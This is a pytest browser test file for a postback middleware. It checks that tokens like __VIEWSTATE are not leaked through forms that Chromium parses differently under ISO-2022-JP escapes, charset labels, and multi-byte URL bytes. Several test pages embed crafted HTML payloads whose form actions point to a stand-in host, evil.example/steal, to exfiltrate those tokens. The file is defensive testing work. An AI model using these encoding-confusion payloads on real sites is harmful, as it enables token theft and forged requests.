"""Charsets as Chromium reads them: a page is edited in the encoding it is shown in, and the
middleware's tokens never reach a form Chromium submits away.

**Escapes.** ISO-2022-JP (from the ``Content-Type``, or from a ``<meta>``, which Chromium honours
past the first 1024 bytes) is the one charset browsers support whose ASCII bytes are not always
ASCII: after ``ESC $ B`` every byte, quotes, ``<`` and ``>`` included, is half of a kanji up to
``ESC ( B``. The scanner reads bytes as markup, so such a page would get tokens in a form that
Chromium reads otherwise (another action, another form). Each page is loaded with scripting on
and off; its button is clicked, and what leaves the browser for the other origin must carry
neither ``__VIEWSTATE`` nor ``__EVENTVALIDATION``. A control page (the same form without escape
sequences) still gets its tokens.

**Labels.** Chromium (the WHATWG rules) takes a byte order mark before the ``Content-Type``
charset, ignores a charset the Encoding Standard does not list (``utf16``, Python's ``hex``),
reads a ``<meta>`` naming UTF-16 as UTF-8 and only a ``charset`` attribute (not a ``charset=`` in
a description). Each page must come out (no 500), read in the charset Chromium reads the bare
page in, with the same text, and its post form must post back.

**Forms in the page's charset.** Chromium submits a form in its encoding (its
``accept-charset``, else the page's): a windows-1252 page's link
``data-postback-argument="Müller"`` posts ``__EVENTARGUMENT=M%FCller`` (the client script
posts such a form the ordinary way, so that the app gets its charset). The event must reach
the app as the page's text, from a form of its own, a form that shares the page's token, a
form with ``accept-charset="utf-8"`` (UTF-8 then), a select checked by ``validate_choices``;
and a callback (sent by script, in UTF-8) still works.

**URLs in multi-byte charsets.** In Shift_JIS, Big5 and GBK a lead byte followed by "@" is one
character to Chromium (the WHATWG tables: "①" for 0x87 0x40 in Shift_JIS), where Python's older
tables ("shift_jis", "big5", "gb2312") read an unknown character and "@". So
``http://evil.example`` 0x87 0x40 ``localhost:PORT/ok`` is this host's (user "evil.example?") to
them, and to Chromium the host ``evil.example1localhost``. Each page is loaded with scripting off;
the button is clicked and the request that leaves for the other host must carry neither token.

Every page is served by waitress through the middleware.
"""

from __future__ import annotations

import codecs
import secrets
from typing import Any

import pytest

from postback_middleware import PostbackMiddleware

pytestmark = pytest.mark.browser

# -- escapes: ISO-2022-JP ---------------------------------------------------------------------

EVIL = "https://evil.example"
ESC_JIS, ESC_ASCII = b"\x1b$B", b"\x1b(B"
JAPANESE = "日本語のコメント".encode("iso2022_jp")  # ESC $ B ... ESC ( B

# name -> (Content-Type, the body's pieces: more than one is a streamed page)
ESCAPE_PAGES: dict[str, tuple[str, list[bytes]]] = {
    # the scanner's first action is "/ok"; Chromium's, reading data-a's value on, the other's
    "header-one-tag": ("text/html; charset=iso-2022-jp", [
        b'<!DOCTYPE html><html><head><title>t</title></head><body>'
        b'<form method="post" data-a="' + ESC_JIS + b'" action="/ok" data-b="' + ESC_ASCII
        + b'" action="' + EVIL.encode() + b'/steal"><input name=q value=1>'
        b'<button id="go">go</button></form></body></html>']),
    # Chromium sees neither the first form's end nor the second form, nor the client script
    # (inserted before it): the second form's tokens would join the first, off-origin one
    "header-second-form-hidden": ("text/html; charset=iso-2022-jp", [
        b'<!DOCTYPE html><title>t</title>'
        b'<form method="post" action="' + EVIL.encode() + b'/steal" title="' + ESC_JIS
        + b'"><input name=a value=1></form><form method="post" action="/ok" data-b="'
        + ESC_ASCII + b'"><input name=q value=1><button id="go">go</button></form>']),
    # text only: a comment of ESC $ B in a GET form swallows its </form> up to the heading's
    # ESC ( B; the post form's start tag is then ignored, its tokens join the GET form
    "meta-past-1024-text-only": ("text/html", [
        b'<!DOCTYPE html><html><head><title>t</title><!-- ' + b"x" * 1100 + b' -->'
        b'<meta charset="iso-2022-jp"></head><body>'
        b'<form method="get" action="' + EVIL.encode() + b'/search"><input name="s">'
        b'<p>Latest comment: ' + ESC_JIS + b'</p></form><h2>' + JAPANESE + b'</h2>'
        b'<form method="post" action="/comment"><input name="body" value="hi">'
        b'<button id="go">go</button></form></body></html>']),
    "header-streamed": ("text/html; charset=iso-2022-jp", [
        b'<!DOCTYPE html><html><head><title>t</title></head><body>',
        b'<form method="post" data-a="' + ESC_JIS + b'" action="/ok" data-b="',
        ESC_ASCII + b'" action="' + EVIL.encode() + b'/steal"><input name=q value=1>'
        b'<button id="go">go</button></form></body></html>']),
}
ESCAPE_CONTROL = ("text/html; charset=iso-2022-jp", [
    b'<!DOCTYPE html><html><head><title>t</title></head><body><form method="post" '
    b'action="/ok"><input name=q value=1><button id="go">go</button></form></body></html>'])


def _app(pages: dict[str, tuple[str, list[bytes]]]) -> Any:
    def app(environ: dict[str, Any], start_response: Any) -> Any:
        content_type, pieces = pages.get(environ["PATH_INFO"].strip("/"), ESCAPE_CONTROL)
        if environ["REQUEST_METHOD"] == "POST":
            start_response("200 OK", [("Content-Type", "text/plain")])
            return [b"posted"]
        start_response("200 OK", [("Content-Type", content_type)])
        return [pieces[0]] if len(pieces) == 1 else iter(pieces)
    return app


@pytest.fixture(scope="module")
def escapes_url(serve: Any) -> Any:
    wrapped = PostbackMiddleware(_app(ESCAPE_PAGES), secret_keys=[secrets.token_urlsafe(48)])
    with serve(wrapped) as url:
        yield url


def _submit(browser: Any, url: str, *, scripting: bool) -> tuple[str, list[Any]]:
    """Load ``url``, click its button; (the charset Chromium read, the requests that left)."""
    context = browser.new_context(java_script_enabled=scripting)
    try:
        page = context.new_page()
        page.route(EVIL + "/**", lambda route, request: route.fulfill(status=200, body="x"))
        page.goto(url)
        charset = page.evaluate("document.characterSet")
        with page.expect_request(lambda r: r.is_navigation_request() and r.url != url) as sent:
            page.click("#go")
        return charset, [sent.value]
    finally:
        context.close()


@pytest.mark.parametrize("scripting", [True, False], ids=["scripting", "no-scripting"])
@pytest.mark.parametrize("name", list(ESCAPE_PAGES))
def test_no_tokens_in_a_form_chromium_reads_through_iso_2022_jp_escapes(
        browser: Any, escapes_url: str, name: str, scripting: bool) -> None:
    charset, requests = _submit(browser, f"{escapes_url}/{name}", scripting=scripting)
    assert charset == "ISO-2022-JP"
    (request,) = requests
    assert request.url.startswith(EVIL)  # (Chromium's reading: the form goes away)
    sent = (request.post_data or "") + request.url
    assert "__VIEWSTATE" not in sent and "__EVENTVALIDATION" not in sent


def test_an_iso_2022_jp_page_without_escapes_still_posts_back(browser: Any,
                                                              escapes_url: str) -> None:
    charset, (request,) = _submit(browser, f"{escapes_url}/control", scripting=False)
    assert charset == "ISO-2022-JP"
    assert request.url == f"{escapes_url}/ok" and "__VIEWSTATE=" in (request.post_data or "")


# -- labels: the charset a page is read in ---------------------------------------------------

LABEL_PAGE = ('<!DOCTYPE html><html><head>{head}<title>t</title></head><body><p>Hello</p>'
        '<form method="post" action="/save"><button id="go">Save</button></form></body></html>')

# name -> (Content-Type, body, the charset Chromium reads it in)
LABEL_PAGES: dict[str, tuple[str, bytes, str]] = {
    "header-hex": ("text/html; charset=hex", LABEL_PAGE.format(head="").encode(), "windows-1252"),
    "description-says-charset": ("text/html", LABEL_PAGE.format(
        head='<meta name="description" content="Why charset=base64 is no charset">').encode(),
        "windows-1252"),
    "meta-utf-16": ("text/html", LABEL_PAGE.format(head='<meta charset="utf-16">').encode() + b" ",
                    "UTF-8"),
    "header-utf16-ignored": ("text/html; charset=utf16", LABEL_PAGE.format(head="").encode() + b" ",
                             "windows-1252"),
    "utf-8-bom-beats-header": (
        "text/html; charset=utf-16", codecs.BOM_UTF8 + LABEL_PAGE.format(head="").encode() + b" ",
        "UTF-8"),
    "utf-16le-stray-byte": (
        "text/html; charset=utf-16le", LABEL_PAGE.format(head="").encode("utf-16-le") + b"\n",
        "UTF-16LE"),
}


@pytest.fixture(scope="module")
def labels_url(serve: Any) -> Any:
    def app(environ: dict[str, Any], start_response: Any) -> Any:
        if environ["REQUEST_METHOD"] == "POST":
            start_response("200 OK", [("Content-Type", "text/plain")])
            return [b"posted"]
        content_type, body, _ = LABEL_PAGES[environ["PATH_INFO"].strip("/")]
        start_response("200 OK", [("Content-Type", content_type)])
        return [body]

    with serve(PostbackMiddleware(app, secret_keys=[secrets.token_urlsafe(48)])) as url:
        yield url


@pytest.mark.parametrize("name", list(LABEL_PAGES))
def test_a_page_is_edited_in_the_charset_chromium_reads(browser_page: Any, labels_url: str,
                                                        name: str) -> None:
    response = browser_page.goto(f"{labels_url}/{name}")
    assert response.status == 200
    assert browser_page.evaluate("document.characterSet") == LABEL_PAGES[name][2]
    assert browser_page.inner_text("body").startswith("Hello\n")
    with browser_page.expect_request(lambda r: r.method == "POST") as sent:
        browser_page.click("#go")
    assert sent.value.url == f"{labels_url}/save"
    assert "__VIEWSTATE=" in (sent.value.post_data or "")


# -- URLs in multi-byte charsets --------------------------------------------------------------

# name -> (charset, the two bytes between "http://evil.example" and "localhost")
URL_CASES = {
    "shift_jis": ("shift_jis", b"\x87\x40"),
    "big5": ("big5", b"\x87\x40"),
    "gb2312": ("gb2312", b"\x81\x40"),
}


@pytest.fixture(scope="module")
def urls_url(serve: Any) -> Any:
    def app(environ: dict[str, Any], start_response: Any) -> Any:
        charset, between = URL_CASES[environ["PATH_INFO"].strip("/")]
        action = (b"http://evil.example" + between + b"localhost:"
                  + environ["SERVER_PORT"].encode() + b"/ok")
        start_response("200 OK", [("Content-Type", f"text/html; charset={charset}")])
        return [b'<!DOCTYPE html><title>t</title><form method="post" action="' + action
                + b'"><input name="q" value="1"><button id="go">go</button></form>']

    with serve(PostbackMiddleware(app, secret_keys=[secrets.token_urlsafe(48)])) as url:
        yield url.replace("127.0.0.1", "localhost")


@pytest.mark.parametrize("name", list(URL_CASES))
def test_an_action_chromium_reads_as_another_host_gets_no_tokens(browser: Any, urls_url: str,
                                                                 name: str) -> None:
    context = browser.new_context(java_script_enabled=False)
    try:
        page = context.new_page()
        page.route(lambda url: "//evil." in url,
                   lambda route, request: route.fulfill(status=200, body="x"))
        page.goto(f"{urls_url}/{name}")
        assert page.evaluate("new URL(document.forms[0].action).hostname").startswith("evil.")
        with page.expect_request(lambda r: "//evil." in r.url) as sent:
            page.click("#go")
        assert "q=1" in (sent.value.post_data or "")
        assert "__VIEWSTATE" not in (sent.value.post_data or "")
    finally:
        context.close()


# -- forms in the page's charset --------------------------------------------------------------

FORMS_PAGE = """<!DOCTYPE html><html><head><title>Kunden</title></head><body>
<p id="seen">{seen}</p>
<form method="post" action="/customers/" data-callbacks="Lookup">
  <a href="#" id="muller" data-postback="pick" data-postback-argument="Müller">Müller</a>
  <select name="who"><option>Smith</option><option selected>Müller</option></select>
  <button id="save">Save</button></form>
<form method="post" action="/customers/" accept-charset="utf-8">
  <a href="#" id="utf8-muller" data-postback="pick" data-postback-argument="Müller">Müller</a>
</form>
</body></html>"""
ROWS_PAGE = """<!DOCTYPE html><html><head><title>Kunden</title></head><body>
<p id="seen">{seen}</p>""" + "".join(
    f'<form method="post" action="/rows/{n}/"><a href="#" id="row{n}" data-postback="pick" '
    f'data-postback-argument="Müller {n}">Müller {n}</a></form>' for n in range(1, 4)) + """
</body></html>"""


class CustomersApp:
    """A windows-1252 app: its pages show the event (or the ``who``) that reached it."""

    def __call__(self, environ: dict[str, Any], start_response: Any) -> Any:
        from urllib.parse import parse_qs

        seen = "none"
        if environ["REQUEST_METHOD"] == "POST":
            length = int(environ.get("CONTENT_LENGTH") or 0)
            form = parse_qs(environ["wsgi.input"].read(length).decode("ascii"),
                            encoding="cp1252")  # (the page's forms post in its charset)
            who = form.get("who", [""])[0]
            event = environ["postback.event"]
            seen = f"picked {event.argument}" if event else f"saved {who}"
        page = ROWS_PAGE if environ["PATH_INFO"].startswith("/rows/") else FORMS_PAGE
        start_response("200 OK", [("Content-Type", "text/html; charset=windows-1252")])
        return [page.format(seen=seen).encode("cp1252")]


@pytest.fixture(scope="module")
def customers(serve: Any) -> Any:
    from postback_middleware import Registry

    registry = Registry()
    registry.add_callback("Lookup", lambda argument, request: f"found {argument}")
    with serve(PostbackMiddleware(CustomersApp(), secret_keys=[secrets.token_urlsafe(48)],
                                  registry=registry, validate_choices=True)) as url:
        yield url


@pytest.mark.parametrize(
    ("path", "click", "sent", "seen"),
    [
        pytest.param("/customers/", "#muller", "__EVENTARGUMENT=M%FCller", "picked Müller",
                     id="a-link-posts-windows-1252"),
        pytest.param("/customers/", "#utf8-muller", "__EVENTARGUMENT=M%C3%BCller",
                     "picked Müller", id="an-accept-charset-utf-8-form-posts-utf-8"),
        pytest.param("/rows/1/", "#row2", "__EVENTARGUMENT=M%FCller+2", "picked Müller 2",
                     id="forms-sharing-a-page-token"),
        pytest.param("/customers/", "#save", "who=M%FCller", "saved Müller",
                     id="a-select-checked-by-validate-choices"),
    ],
)
def test_a_windows_1252_page_posts_back_in_its_charset(
    browser_page: Any, customers: str, browser_log: Any, path: str, click: str, sent: str,
    seen: str
) -> None:
    browser_page.goto(customers + path)
    assert browser_page.evaluate("document.characterSet") == "windows-1252"
    browser_page.wait_for_function("typeof Postback === 'object'")
    with (browser_page.expect_request(lambda r: r.method == "POST") as request,
          browser_page.expect_navigation()):
        browser_page.click(click)
    assert sent in (request.value.post_data_buffer or b"").decode("ascii").split("&")
    assert request.value.response().status == 200
    assert browser_page.inner_text("#seen") == seen
    assert browser_log.errors == []


def test_a_callback_from_a_windows_1252_page_still_works(browser_page: Any,
                                                         customers: str) -> None:
    """WebForm_DoCallback sends UTF-8, which the middleware reads so."""
    browser_page.goto(customers + "/customers/")
    browser_page.wait_for_function("typeof Postback === 'object'")
    assert browser_page.evaluate("Postback.callback('Lookup', 'Müller')") == "found Müller"
